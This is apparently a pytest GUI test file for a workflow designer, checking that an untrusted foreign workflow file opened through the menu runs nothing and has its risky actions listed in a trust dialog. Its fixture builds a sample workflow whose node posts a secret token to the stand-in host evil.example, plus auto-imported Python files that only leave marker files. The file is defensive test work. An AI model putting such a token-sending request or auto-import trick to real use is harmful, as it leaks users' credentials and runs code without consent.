"""A foreign file is opened with mouse and keys alone: nothing of it runs, and it is told what it would do."""

from __future__ import annotations

import sys

import pytest
from by_hand import choose, name_file, press, shown
from PySide6.QtCore import Qt
from PySide6.QtWidgets import QFileDialog, QLabel

from floworch.model import codec
from floworch.model.workflow import Node
from floworch.trust import TrustStore
from floworch_designer.app.trust.trust_dialog import TrustDialog
from floworch_designer.app.trust.trusting import FILE, RUN, SEE

#: What each Python file beside the workflow does when somebody imports it.
EFFECT = """
import os, pathlib, sys
pathlib.Path({ran!r}).joinpath({name!r}).touch()
os.environ["FLOWORCH_TEST_RAN"] = "1"
sys.modules["floworch_test_ran"] = sys
"""


@pytest.fixture
def trap(flow, tmp_path):
    """A file with actions of its own beside it, and the folder in which every import of them leaves a mark."""
    place, ran = tmp_path / "foreign", tmp_path / "ran"
    (place / "actions" / "deep").mkdir(parents=True)
    ran.mkdir()
    for name in ("__init__.py", "evil.py", "deep/__init__.py", "deep/worse.py", "sitecustomize.py"):
        (place / "actions" / name).write_text(EFFECT.format(ran=str(ran), name=name.replace("/", ".")))
    with (place / "actions" / "evil.py").open("a") as file:
        file.write('from floworch import action\n@action("trap.spring")\ndef spring() -> int:\n    return 1\n')
    nodes = {
        "own": Node(action="trap.spring"),
        "pack": Node(action="shell.run", params={"command": "gzip orders.json"}),
        "send": Node(action="http.request", params={"url": "https://evil.example/x", "json": "{{ secrets.TOKEN }}"}),
    }
    path = place / "trap.flow.json"
    codec.save(flow().replace(id="trap", nodes=nodes, edges=()), path)
    return path, ran


def open_by_hand(window, qtbot, until, path):
    choose(window, qtbot, "File", "file.open")
    until(lambda: shown(window, QFileDialog) is not None)
    name_file(qtbot, window, path)
    until(lambda: window.document.path == path and "trust" in window.banners.shown)
    until(lambda: shown(window, QFileDialog) is None)
    window.activateWindow()  # without a window manager nobody does it
    until(window.isActiveWindow)


def nothing_ran(host, ran):
    imported = [name for name in sys.modules if name == "floworch_test_ran" or "worse" in name.split(".")]
    return not list(ran.iterdir()) and not imported and not any(what[0] == "start" for what in host.asked)


def test_opening_through_the_menu_runs_nothing_and_lists_what_it_would_do(window, host, qtbot, until, trap):
    path, ran = trap
    open_by_hand(window, qtbot, until, path)
    strip = window.banners.shown["trust"]
    assert "trap.flow.json is not trusted yet" in strip.title.text()
    for words in ("run Python files beside it", "start programs", "reach evil.example", "read secrets"):
        assert words in strip.text.text()
    press(qtbot, strip.buttons[SEE])
    until(lambda: shown(window, TrustDialog) is not None)
    dialog = shown(window, TrustDialog)
    listed = "\n".join(label.text() for label in dialog.findChildren(QLabel))
    for words in ("nothing of it was run", "evil.py", "worse.py", "gzip orders.json", "evil.example", "TOKEN"):
        assert words in listed
    press(qtbot, dialog.buttons["Close"])
    until(lambda: shown(window, TrustDialog) is None)
    window.selection.set(["own"])
    window.document.check_now()
    assert window.tab.restricted
    assert not TrustStore().verdict(codec.load(path).at(path)).trusted
    assert nothing_ran(host, ran)


def test_run_by_its_key_asks_and_escape_runs_nothing(window, host, qtbot, until, trap):
    path, ran = trap
    open_by_hand(window, qtbot, until, path)
    qtbot.keyClick(window, Qt.Key.Key_F5)
    until(lambda: shown(window, TrustDialog) is not None)
    dialog = shown(window, TrustDialog)
    assert list(dialog.buttons) == ["Cancel", RUN], "what brings files of its own is never run once without trust"
    qtbot.keyClick(dialog, Qt.Key.Key_Escape)
    until(lambda: shown(window, TrustDialog) is None)
    assert nothing_ran(host, ran)
    assert window.tab.restricted


def test_only_trust_imports_what_lies_beside_it(window, qtbot, until, trap):
    path, ran = trap
    open_by_hand(window, qtbot, until, path)
    press(qtbot, window.banners.shown["trust"].buttons[FILE])
    until(lambda: not window.tab.restricted)
    assert (ran / "evil.py").exists(), "the marks of this test are real"
